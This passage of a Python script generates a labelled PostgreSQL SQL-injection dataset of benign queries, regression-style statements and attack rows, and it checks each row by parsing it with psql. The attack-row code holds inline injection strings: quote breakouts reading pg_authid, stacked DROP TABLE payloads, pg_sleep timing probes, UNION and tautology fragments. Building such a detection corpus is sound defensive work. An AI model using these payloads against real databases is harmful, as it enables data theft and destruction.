    ("complex_comments_hints", "fx_marginalia_comment", "SELECT \"devices\".* FROM \"devices\" WHERE \"devices\".\"site\" = '{s}' /*application:Fleet,controller:devices,action:index*/"),
    ("complex_comments_hints", "fx_hint_seqscan", "/*+ SeqScan(r) Parallel(r 4 hard) */ SELECT sensor_uid, avg(temp_c) FROM iot.readings r WHERE ts >= '{d}' GROUP BY sensor_uid"),
    ("complex_comments_hints", "fx_nested_block_comment", "SELECT id /* outer /* inner */ still comment */, title FROM kb_articles WHERE locale = '{w}'"),
    ("complex_comments_hints", "fx_trailing_line_comment", "SELECT count(*) FROM chat.messages WHERE room_id = {i} -- OR 1=1 was removed in PR #4411"),
    ("complex_comments_hints", "fx_header_comment_block", "/*\n * Report: weekly billing summary\n * Owner: finance-data; do not DROP the view it reads from\n */\nSELECT date_trunc('week', issued_on) AS wk, sum(total_cents) FROM billing.invoices GROUP BY 1 ORDER BY 1"),
    # maintenance/monitoring
    ("complex_maintenance_admin", "fx_replication_lag", "SELECT client_addr, state, pg_wal_lsn_diff(pg_current_wal_lsn(), replay_lsn) AS lag_bytes FROM pg_stat_replication"),
    ("complex_maintenance_admin", "fx_index_usage", "SELECT relname, indexrelname, idx_scan, pg_size_pretty(pg_relation_size(indexrelid)) FROM pg_stat_user_indexes WHERE idx_scan < {i} ORDER BY pg_relation_size(indexrelid) DESC"),
    ("complex_maintenance_admin", "fx_blocking_pids", "SELECT pid, pg_blocking_pids(pid) AS blocked_by, wait_event, left(query, 60) FROM pg_stat_activity WHERE cardinality(pg_blocking_pids(pid)) > 0"),
    ("complex_maintenance_admin", "fx_vacuum_freeze", "VACUUM (FREEZE, VERBOSE, PARALLEL 2) iot.readings"),
    ("complex_maintenance_admin", "fx_reindex_index", "REINDEX INDEX CONCURRENTLY chat.messages_room_sent_idx"),
    ("complex_maintenance_admin", "fx_explain_analyze", "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT * FROM billing.invoices WHERE account_ref = '{s}'"),
    ("complex_maintenance_admin", "fx_pg_stat_statements", "SELECT queryid, calls, round(mean_exec_time::numeric, 2) AS mean_ms, left(query, 100) FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT {i}"),
    ("complex_maintenance_admin", "fx_terminate_idle_tx", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction' AND xact_start < now() - interval '{i} minutes' AND usename = 'app'"),
    ("complex_maintenance_admin", "fx_conn_pool_check", "SELECT 1 /* pgbouncer health check */"),
    ("complex_maintenance_admin", "fx_wraparound_check", "SELECT datname, age(datfrozenxid) AS xid_age FROM pg_database ORDER BY 2 DESC"),
    # session
    ("complex_session", "fx_set_work_mem", "SET work_mem = '{i}MB'"),
    ("complex_session", "fx_set_local_tz", "SET LOCAL TIME ZONE '{tz}'"),
    ("complex_session", "fx_show_all_like", "SHOW search_path"),
    ("complex_session", "fx_reset_role", "RESET ROLE"),
    ("complex_session", "fx_discard_plans", "DISCARD PLANS"),
    ("complex_session", "fx_set_config_user", "SELECT set_config('app.user_id', '{i}', false), set_config('app.locale', '{w}', false)"),
    ("complex_session", "fx_set_datestyle", "SET datestyle TO 'ISO, DMY'"),
    ("complex_session", "fx_current_setting_read", "SELECT current_setting('app.tenant_id', true) AS tenant, current_setting('TimeZone')"),
    # transactions
    ("complex_transactions", "fx_tx_transfer_returning", "BEGIN; UPDATE wallets SET balance = balance - {i} WHERE id = 10 RETURNING balance; UPDATE wallets SET balance = balance + {i} WHERE id = 20; INSERT INTO transfers(src, dst, amount) VALUES (10, 20, {i}); COMMIT;"),
    ("complex_transactions", "fx_savepoint_rollback", "SAVEPOINT import_row_{i}; INSERT INTO contacts(name) VALUES ('{s}'); ROLLBACK TO SAVEPOINT import_row_{i};"),
    ("complex_transactions", "fx_begin_deferrable", "BEGIN TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE"),
    ("complex_transactions", "fx_prepare_transaction", "PREPARE TRANSACTION 'xfer-{i}'"),
    ("complex_transactions", "fx_set_constraints", "BEGIN; SET CONSTRAINTS ALL DEFERRED; DELETE FROM parent WHERE id = {i}; DELETE FROM child WHERE parent_id = {i}; COMMIT;"),
    ("complex_transactions", "fx_skip_locked_job", "WITH job AS (SELECT id FROM jobs WHERE queue = '{w}' AND run_at <= now() ORDER BY run_at FOR UPDATE SKIP LOCKED LIMIT 1) UPDATE jobs j SET locked_at = now() FROM job WHERE j.id = job.id RETURNING j.id, j.payload"),
    # parameterized / prepared
    ("complex_parameterized", "fx_prepare_execute", "PREPARE find_player(text) AS SELECT player_id FROM game_accounts WHERE nickname = $1; EXECUTE find_player('{s}')"),
    ("complex_parameterized", "fx_param_any", "SELECT id, title FROM kb_articles WHERE id = ANY($1::bigint[]) AND locale = $2"),
    ("complex_parameterized", "fx_listen_notify", "LISTEN cache_invalidation; NOTIFY cache_invalidation, '{w}'"),
]
TZS = ["UTC", "Europe/Berlin", "America/Sao_Paulo", "Asia/Kolkata", "Pacific/Chatham", "-03:30"]
CX_WORDS = ["gamma", "south", "infra", "team-b", "k8s", "payroll", "fr_FR", "beta2"]
CX_STRS = ["O'Neill", "Drop Zone", "select few", "Chloë", "rock'n'roll", "x--y", "100% cotton", "Joe's Garage", "plain text", "D:\\data", "união"]

# Statements in the style of PostgreSQL's regression tests (family pg_regress).
PG_REGRESS = [
    "CREATE TEMP TABLE fr_t1 (a int, b text, c float8);",
    "INSERT INTO fr_t1 VALUES (1, 'one', 1.5), (2, 'two', NULL), (3, NULL, -0.0);",
    "SELECT a, b FROM fr_t1 WHERE a IN (SELECT a FROM fr_t1 WHERE c IS NOT NULL) ORDER BY 1;",
    "SELECT '1.5'::float8 * 2 AS doubled, '-0'::float8 = 0 AS eq;",
    "SELECT 'a' || NULL IS NULL AS concat_null;",
    "SELECT pg_typeof(1::int2 + 1::int8), pg_typeof('1'::numeric / 3);",
    "SELECT '{1,2,3}'::int[] || 4 AS appended, ARRAY[1,2] <@ ARRAY[1,2,3] AS contained;",
    "SELECT 1 AS one UNION SELECT 2 UNION SELECT 1 ORDER BY 1;",
    "SELECT 1 UNION ALL SELECT NULL::int EXCEPT SELECT 2;",
    "SELECT $$dollar$$, $a$b$a$, $_$x$_$ AS tagged;",
    "SELECT E'\\x41\\102\\u0043' AS abc, U&'d\\0061t\\+000061' AS data;",
    "SELECT U&'d!0061t!+000061' UESCAPE '!' AS data;",
    "SELECT 'x' ~ 'x' AS t, 'abc' SIMILAR TO '%(b|d)%' AS s, 'ab' LIKE 'a\\_' ESCAPE '\\' AS l;",
    "SELECT CAST('42' AS int4), '7'::int8 % 3, int4 '12' + 1;",
    "SELECT 'abc'::text::int;",
    "SELECT 1/0;",
    "SELECT chr(0);",
    "DROP TABLE fr_t1;",
    "DROP TABLE IF EXISTS fr_missing CASCADE;",
    "CREATE FUNCTION fr_add(int, int) RETURNS int AS 'select $1 + $2;' LANGUAGE SQL IMMUTABLE STRICT;",
    "SELECT fr_add(1, 2), fr_add(NULL, 2);",
    "DROP FUNCTION fr_add(int, int);",
    "SELECT count(*) FROM generate_series(1, 1000) g WHERE g % 7 = 0;",
    "SELECT pg_sleep(0.1);",
    "SELECT current_user = session_user AS same, current_schema;",
    "SHOW standard_conforming_strings;",
    "SET standard_conforming_strings = off;",
    "RESET standard_conforming_strings;",
    "SELECT 'it''s' AS q, E'it\\'s' AS e;",
    "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(n, s) WHERE n > 1 OR s = 'a';",
    "SELECT 1 WHERE 1 = 1 OR 'a' = 'a';",
    "SELECT x, lag(x) OVER w, lead(x, 2, -1) OVER w FROM generate_series(1, 5) x WINDOW w AS (ORDER BY x);",
    "CREATE TABLE fr_parted (a int, b text) PARTITION BY LIST (b);",
    "CREATE TABLE fr_parted_ab PARTITION OF fr_parted FOR VALUES IN ('a', 'b');",
    "EXPLAIN (COSTS OFF) SELECT * FROM fr_parted WHERE b = 'a';",
    "DO $$ BEGIN RAISE NOTICE 'x = %', 1; END $$;",
    "DO $$ DECLARE r int; BEGIN SELECT 1 INTO r; IF r <> 1 THEN RAISE EXCEPTION 'bad'; END IF; END $$;",
    "SELECT '{\"a\": {\"b\": [1, 2]}}'::jsonb #> '{a,b,1}', '{\"a\": 1}'::jsonb @? '$.a ? (@ > 0)';",
    "SELECT xmlparse(content '<a>x</a>'), xpath('/a/text()', '<a>x</a>'::xml);",
    "SELECT has_table_privilege('pg_authid', 'SELECT'), pg_has_role('pg_monitor', 'MEMBER');",
    "COPY fr_parted FROM stdin;",
    "SELECT lo_creat(-1) IS NOT NULL AS created;",
    "SELECT 'abc' COLLATE \"C\" < 'abd' COLLATE \"C\";",
    "VALUES (1), (2) ORDER BY 1 DESC LIMIT 1 OFFSET 0;",
    "SELECT 1 FROM pg_class LIMIT ALL;",
    "TABLE pg_namespace ORDER BY nspname FETCH FIRST 2 ROWS ONLY;",
]


def complex_rows():
    for fam, name, sql in COMPLEX:
        n = 1 if "{" not in sql.replace("{{", "").replace("}}", "") else 5
        made = 0
        for _ in range(n * 4):
            if made >= n:
                break
            out = (sql.replace("{s}", R.choice(CX_STRS).replace("'", "''")).replace("{w}", R.choice(CX_WORDS))
                   .replace("{i}", str(R.choice([3, 8, 15, 60, 120, 500, 2048])))
                   .replace("{d}", R.choice(DAY[1][:4])).replace("{tz}", R.choice(TZS)).replace("{{", "{").replace("}}", "}"))
            if emit(out, "benign", fam, name, [], "complex:" + name):
                made += 1
    for k, sql in enumerate(PG_REGRESS):
        emit(sql, "benign", "pg_regress", "fr_regress_style", [], f"regress_style:{k}")


# ---------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------
def pick_sqlmap(tech):
    cands = [v for v in SQLMAP if v[0] == tech]
    pg = [v for v in cands if v[1] in ("PostgreSQL", "generic")]
    other = [v for v in cands if v[1] not in ("PostgreSQL", "generic")]
    return R.choice(pg if (R.random() < 0.55 or not other) else other)


SQLMAP_PLAN = [("time", 5), ("boolean", 5), ("error", 4), ("stacked", 2), ("union", 2), ("inline", 1)]
HAND_PLAN = ["tautology", "tautology", "stacked", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program",
             "oob_file_program", "plpgsql_do_exec", "union", "dollar_quote", "e_escape", "obf_chr_concat"]


def main():
    for t in TEMPLATES:
        slots = t["slots"]
        atk_slots = [s for s in slots if s[1] != "dollar"] or slots
        for tech, count in SQLMAP_PLAN:
            made = tries = 0
            while made < count and tries < count * 8:
                tries += 1
                slot, kind = R.choice(atk_slots)
                if tech == "union":
                    dbms = R.choice(["PostgreSQL", "PostgreSQL", "PostgreSQL", "MySQL", "Microsoft SQL Server", "Oracle", "generic", "random"])
                    vec = union_vector(dbms) if R.random() < 0.8 else order_probe()
                    title = "Generic UNION query - 1 to 10 columns" if vec.startswith("UNION") else "ORDER BY technique column count"
                else:
                    _, dbms, title, vec = pick_sqlmap(tech)
                raw = sqlmap_attack(t, slot, kind, tech, dbms, vec)
                if raw is None:
                    continue
                if attack_row(t, slot, raw, SQLMAP_FAMILY[tech], f"sqlmap:{dbms}:{title}") == "attack":
                    made += 1
        for fam in R.sample(HAND_PLAN, 8):
            for _ in range(6):
                slot, kind = R.choice(slots)
                core = R.choice(HAND[fam])
                if hand_attack(t, slot, kind, fam, core, str(HAND[fam].index(core))) == "attack":
                    break
        for obf in R.sample(sorted(OBFS), 3):
            for _ in range(5):
                slot, kind = R.choice(slots)
                base, core = R.choice(OBF_BASES)
                if hand_attack(t, slot, kind, obf, OBFS[obf](core), base) == "attack":
                    break
        for slot, kind in slots:
            if kind in ("str", "estr"):
                tl = R.choice(["--", "/*", "-- ", ";--", "--'", "/*!", "#", "; --x", "\t--"])
                pre = R.choice(["admin", "root", "x", "ops", "", "1"])
                close = close_of(t, slot) if R.random() < 0.7 else R.choice(["'", "')", "'))"])
                attack_row(t, slot, pre + close + tl, "comment_truncation", f"hand:comment_truncation|close={close} tail={tl.strip()}")
                if R.random() < 0.6:
                    fam, c = R.choice(CONCAT)
                    attack_row(t, slot, R.choice(["", "x", "7"]) + c + R.choice(["", "y"]), fam, f"hand:{fam}:concat")
                backslash_attacks(t, slot, kind)
            elif kind in ("num", "numlist") and R.random() < 0.7:
                fam, c = R.choice(NUM_EXPR)
                attack_row(t, slot, c, fam, f"hand:{fam}:num_expr")
            elif kind == "ident":
                for raw in R.sample(['x" FROM pg_authid --', 'a", current_setting(\'data_directory\') AS "b', '"; DROP TABLE analytics.kpi_daily; --',
                                     'ts" UNION SELECT rolname FROM pg_roles --', 'y"; SELECT pg_sleep(5); --'], 2):
                    fam = "stacked" if ";" in raw else "union" if "UNION" in raw else "string_concat_subquery"
                    attack_row(t, slot, raw, fam, f"hand:{fam}:ident_breakout")
            elif kind == "col" and R.random() < 0.7:
                raw = R.choice(["(SELECT CASE WHEN current_user='postgres' THEN id ELSE sent_at END)", "id; DROP TABLE chat.messages",
                                "1,(SELECT 1 FROM pg_sleep(4))", "(SELECT 1/0)", "region UNION SELECT 1, 2 --"])
                fam = "stacked" if ";" in raw else "time_pg_sleep" if "sleep" in raw else "union" if "UNION" in raw else "boolean_blind"
                attack_row(t, slot, raw, fam, f"hand:{fam}:col_expr")
        # ---------------- benign inputs
        for slot, kind in slots:
            if kind == "ident":
                for v in IDENT_BENIGN:
                    benign_row(t, slot, v, "input_identifier", "benign:input_identifier")
                for raw in R.sample(['x" FROM pg_authid --', '"; DROP TABLE t; --', 'a" OR "1"="1'], 2):
                    benign_row(t, slot, raw, "escaped_attack_string", "escaped:ident")
                continue
            if kind == "dollar":
                for v in DOLLAR_BENIGN:
                    benign_row(t, slot, v, "input_code_snippet", "benign:input_code_snippet")
                for core in R.sample(HAND["stacked"] + HAND["plpgsql_do_exec"][:3], 4):
                    benign_row(t, slot, "'); " + core.lstrip("; ") + "; --", "escaped_attack_string", "escaped:dollar_without_tag")
                continue
            if kind == "num":
                for v in R.sample(NUM_BENIGN, 7):
                    benign_row(t, slot, v, "input_numeric", "benign:input_numeric")
                continue
            if kind == "numlist":
                for v in NUMLIST_BENIGN:
                    benign_row(t, slot, v, "input_numeric", "benign:input_numeric")
                continue
            if kind == "col":
                fam, vals = t["vals"].get(slot, ("input_identifier", COL_BENIGN))
                for v in vals:
                    benign_row(t, slot, v, fam, f"benign:{fam}")
                continue
            if kind == "dir":
                for v in DIR_BENIGN:
                    benign_row(t, slot, v, "input_identifier", "benign:input_identifier")
                continue
            pools = sorted(BENIGN)
            if slot in t["vals"]:
                fam, vals = t["vals"][slot]
                for v in vals:
                    benign_row(t, slot, v, fam, f"benign:{fam}")
                pools = R.sample(pools, 4)
            elif len(slots) > 1:
                pools = R.sample(pools, 6)
            doubled = set(R.sample(pools, len(pools) // 2)) if len(slots) == 1 else set()
            for fam in pools:
                k = 2 if (kind == "estr" or fam in doubled) else 1
                for v in R.sample(BENIGN[fam], min(k, len(BENIGN[fam]))):
                    benign_row(t, slot, v, fam, f"benign:{fam}")
            for _ in range(4 if len(slots) == 1 else 3):
                if R.random() < 0.5:
                    tech = R.choice(["time", "boolean", "error", "stacked", "union"])
                    vec = union_vector("PostgreSQL") if tech == "union" else pick_sqlmap(tech)[3]
                    raw = sqlmap_attack(t, slot, "str", tech, "PostgreSQL", vec) or "x' OR 'x'='x"
                else:
                    fam = R.choice(sorted(HAND))
                    raw = R.choice(["z' ", "admin' ", "')) ", "9' ", "%' ", "'"]) + R.choice(HAND[fam]) + R.choice(["--", " -- -", "", "#"])
                benign_row(t, slot, raw, "escaped_attack_string", "escaped")
    complex_rows()


# ---------------------------------------------------------------------------
# PostgreSQL parse check
# ---------------------------------------------------------------------------
def pg_parses(port, sql):
    p = subprocess.run(["/usr/lib/postgresql/15/bin/psql", "-X", "-q", "-h", "/tmp", "-p", str(port), "-U", "postgres", "-d", "postgres",
                        "-v", "VERBOSITY=verbose", "-c", "SELECT 1/0;\n" + sql],
                       capture_output=True, text=True, timeout=30)
    err = p.stderr
    if "22012" in err:
        return True
    if "ERROR" in err:
        return False
    raise SystemExit(f"unexpected psql result for {sql!r}: {p.stdout} {err}")


def previous_parses():
    if not os.path.exists(OUT):
        return {}
    got = {}
    with gzip.open(OUT, "rt", encoding="utf-8") as f:
        for line in f:
            r = json.loads(line)
            if "parses" in r:
                got[r["sql"]] = r["parses"]
    return got


if __name__ == "__main__":
    main()
    port = None
    if "--pg-port" in sys.argv:
        port = int(sys.argv[sys.argv.index("--pg-port") + 1])
    known = {} if port else previous_parses()
    for i, r in enumerate(ROWS):
        r["id"] = f"fresh-{i:05d}"
        if port:
            r["parses"] = pg_parses(port, r["sql"])
        elif r["sql"] in known:
            r["parses"] = known[r["sql"]]
    keys = ("id", "sql", "label", "family", "template", "input", "inputs", "variant", "parses")
    if "--dry-run" not in sys.argv:
        with gzip.GzipFile(OUT, "wb", mtime=0) as raw, io.TextIOWrapper(raw, encoding="utf-8") as f:
            for r in ROWS:
                f.write(json.dumps({k: r[k] for k in keys if k in r}, ensure_ascii=False) + "\n")
    c = collections.Counter((r["label"], r["family"]) for r in ROWS)
    for k in sorted(c):
        print(k[0], k[1], c[k])
    print("total", len(ROWS), "attacks", sum(r["label"] == "attack" for r in ROWS),
          "sqlmap", sum(r["family"].startswith("sqlmap_") for r in ROWS))
    if SKIPPED_OTHER:
        print("skipped (text occurs in another corpus):", dict(SKIPPED_OTHER))
    if any("parses" in r for r in ROWS):
        pc = collections.Counter((r["label"], r.get("parses")) for r in ROWS)
        print("parses", dict(sorted(pc.items(), key=str)))
